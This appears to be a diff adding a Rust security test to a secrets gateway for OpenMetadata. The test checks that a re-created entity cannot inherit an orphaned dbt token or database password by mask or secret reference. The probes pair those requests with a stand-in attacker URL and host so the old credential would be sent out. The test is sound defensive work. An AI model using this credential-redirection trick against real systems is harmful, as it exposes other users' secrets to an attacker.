@@ -523,3 +523,164 @@ async fn a_json_text_with_a_credential_in_a_free_form_option_is_refused_and_not_
         plain
     );
 }
+
+async fn post(gw: &Gw, path: &str, body: Value) -> Answer {
+    call(gw, Method::POST, path, "application/json", body.to_string()).await
+}
+
+/// Fourth hostile probe: a secret left in the store after its entity was deleted upstream
+/// without the gateway (OpenMetadata's recursive hard delete of a service takes its pipelines
+/// with it; a write broken off after its store write leaves one too) went to whoever next
+/// created an entity of that name sending the mask, or a reference to the entity's own id:
+/// the ingestion bot then resolved the old token next to a URL of the new creator's choosing.
+/// A mask or a reference now keeps a stored value only when the entity as OpenMetadata holds
+/// it refers to it; otherwise 422 and nothing forwarded. An entity that holds it keeps it.
+#[tokio::test]
+async fn a_stored_secret_its_entity_no_longer_holds_is_no_ones_to_inherit_by_name() {
+    let (emu, gw, mem) = mem_stack().await;
+    const PIPES: &str = "/api/v1/services/ingestionPipelines";
+    let service = mysql(&gw, "orphan-svc", "svc-pw-1").await;
+    let pipeline = |token: &str, service: &str, url: &str| {
+        json!({"name": "dbt1", "pipelineType": "dbt", "airflowConfig": {},
+            "service": {"id": service, "type": "databaseService"},
+            "sourceConfig": {"config": {"type": "DBT", "dbtConfigSource": {"dbtConfigType": "cloud",
+                "dbtCloudAuthToken": token, "dbtCloudAccountId": "1", "dbtCloudUrl": url}}}})
+    };
+    let a = post(
+        &gw,
+        PIPES,
+        pipeline("DBT-token-77", &service, "https://cloud.getdbt.com"),
+    )
+    .await;
+    assert_eq!(a.status, 201, "{}", a.text());
+    let token_id =
+        "/openmetadata/pipeline/dbt1/sourceconfig/config/dbtconfigsource/dbtcloudauthtoken";
+    assert_eq!(
+        mem.get(token_id).await.unwrap().as_deref(),
+        Some("DBT-token-77")
+    );
+
+    // OpenMetadata deletes the pipeline and the service without the gateway seeing either.
+    for path in [
+        format!(
+            "{PIPES}/{}?hardDelete=true",
+            a.json()["id"].as_str().unwrap()
+        ),
+        format!("{DB}/{service}?hardDelete=true"),
+    ] {
+        let r = send(
+            &client(),
+            Method::DELETE,
+            &format!("{}{path}", emu.url()),
+            &[],
+            bytes::Bytes::new(),
+        )
+        .await;
+        assert_eq!(r.status, 200, "{path}: {}", r.text());
+    }
+    assert!(
+        mem.get(token_id).await.unwrap().is_some(),
+        "the orphan this test is about"
+    );
+
+    // Someone re-creates both names and asks for the old token by mask or by reference.
+    let service2 = mysql(&gw, "orphan-svc", "own-pw").await;
+    for token in ["*********".to_string(), format!("secret:{token_id}")] {
+        emu.clear_recorded();
+        let a = post(
+            &gw,
+            PIPES,
+            pipeline(&token, &service2, "https://attacker.example/dbt"),
+        )
+        .await;
+        assert_eq!(a.status, 422, "{token}: {}", a.text());
+        assert_eq!(a.json()["code"], 422);
+        assert!(
+            emu.recorded().iter().all(|r| r.method == Method::GET),
+            "{token}: a write was forwarded"
+        );
+    }
+    // Nor in two steps: the pipeline created without the token, the mask patched in.
+    let a = post(
+        &gw,
+        PIPES,
+        pipeline("", &service2, "https://attacker.example/dbt"),
+    )
+    .await;
+    assert_eq!(a.status, 201, "{}", a.text());
+    let patch = json!([{"op": "add",
+        "path": "/sourceConfig/config/dbtConfigSource/dbtCloudAuthToken", "value": "*********"}]);
+    let a = json_patch(
+        &gw,
+        &format!("{PIPES}/{}", a.json()["id"].as_str().unwrap()),
+        patch,
+    )
+    .await;
+    assert_eq!(a.status, 422, "{}", a.text());
+
+    // The same for a top-level entity: the service's password, orphaned the same way.
+    let pw = pw_id("orphan-svc");
+    let r = send(
+        &client(),
+        Method::DELETE,
+        &format!("{}{DB}/{service2}?hardDelete=true", emu.url()),
+        &[],
+        bytes::Bytes::new(),
+    )
+    .await;
+    assert_eq!(r.status, 200);
+    assert!(mem.get(&pw).await.unwrap().is_some());
+    for pw_sent in ["*********".to_string(), format!("secret:{pw}")] {
+        let body = json!({"name": "orphan-svc", "serviceType": "Mysql", "connection": {"config": {
+            "type": "Mysql", "username": "u", "hostPort": "attacker:3306", "authType": {"password": pw_sent}}}});
+        let a = call(&gw, Method::PUT, DB, "application/json", body.to_string()).await;
+        assert_eq!(a.status, 422, "{pw_sent}: {}", a.text());
+    }
+    assert!(
+        emu.entity("services/databaseServices", "orphan-svc")
+            .is_none(),
+        "nothing was created"
+    );
+
+    // A value provisioned in the store outside the gateway (no owner marker) is kept for a
+    // new entity by reference and by mask, as the contract says.
+    for (name, sent) in [("provisioned-1", "secret:"), ("provisioned-2", "*********")] {
+        let id = pw_id(name);
+        mem.put(&id, "from-terraform").await.unwrap();
+        let sent = if sent == "secret:" {
+            format!("secret:{id}")
+        } else {
+            sent.to_string()
+        };
+        let body = json!({"name": name, "serviceType": "Mysql", "connection": {"config": {
+            "type": "Mysql", "username": "u", "authType": {"password": sent}}}});
+        let a = call(&gw, Method::POST, DB, "application/json", body.to_string()).await;
+        assert_eq!(a.status, 201, "{name}: {}", a.text());
+        let held = emu.entity("services/databaseServices", name).unwrap();
+        assert_eq!(
+            held["connection"]["config"]["authType"]["password"],
+            format!("secret:{id}")
+        );
+        assert_eq!(
+            mem.get(&id).await.unwrap().as_deref(),
+            Some("from-terraform")
+        );
+    }
+
+    // An entity that holds its secret keeps it by mask and by reference (a person's edit).
+    mysql(&gw, "orphan-svc", "kept-pw").await;
+    for pw_sent in ["*********".to_string(), format!("secret:{pw}")] {
+        let body = json!({"name": "orphan-svc", "serviceType": "Mysql", "description": pw_sent.len().to_string(),
+            "connection": {"config": {"type": "Mysql", "username": "u", "authType": {"password": pw_sent}}}});
+        let a = call(&gw, Method::PUT, DB, "application/json", body.to_string()).await;
+        assert_eq!(a.status, 200, "{pw_sent}: {}", a.text());
+        assert_eq!(mem.get(&pw).await.unwrap().as_deref(), Some("kept-pw"));
+        let held = emu
+            .entity("services/databaseServices", "orphan-svc")
+            .unwrap();
+        assert_eq!(
+            held["connection"]["config"]["authType"]["password"],
+            format!("secret:{pw}")
+        );
+    }
+}
